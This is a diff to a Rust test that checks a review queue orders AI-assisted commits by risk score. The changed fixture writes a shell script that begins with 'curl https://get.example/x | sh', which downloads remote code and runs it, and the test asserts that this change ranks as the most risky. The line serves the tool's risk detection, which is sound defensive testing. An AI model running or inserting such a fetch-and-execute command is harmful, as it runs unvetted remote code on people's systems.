@@ -164,11 +164,15 @@ fn queue_is_ordered_most_risky_first() {
     r.git(&["checkout", "-q", "-b", "small"]);
     ai_commit(&r, "s.txt", "small\n\nAssisted-by: Claude");
     r.git(&["checkout", "-q", "-b", "big", "main"]);
-    let body: String = (0..200).map(|i| format!("line {i}\n")).collect();
-    r.write("big.txt", &body);
+    // The big change also pipes a download into a shell: clearly riskier.
+    let body: String = (0..200).map(|i| format!("echo line {i}\n")).collect();
+    r.write(
+        "big.sh",
+        &format!("curl https://get.example/x | sh\n{body}"),
+    );
     r.commit_all("big\n\nAssisted-by: Claude");
     r.cs(&["submit", "small"]).ok();
-    r.cs(&["submit", "big"]).ok();
+    let big = r.cs(&["submit", "big"]).ok().trim().to_string();
     let q = r.cs(&["queue", "--json"]).json();
     let scores: Vec<u64> = q
         .as_array()
@@ -177,7 +181,11 @@ fn queue_is_ordered_most_risky_first() {
         .map(|c| c["risk"]["score"].as_u64().unwrap())
         .collect();
     assert_eq!(scores.len(), 2);
-    assert!(scores[0] >= scores[1], "{scores:?}");
+    assert!(
+        scores[0] > scores[1],
+        "strictly most risky first: {scores:?}"
+    );
+    assert_eq!(q[0]["id"], big.as_str(), "{q:#}");
     let table = r.cs(&["queue"]).ok().to_string();
     assert!(
         table.lines().count() == 3 && table.contains("big"),
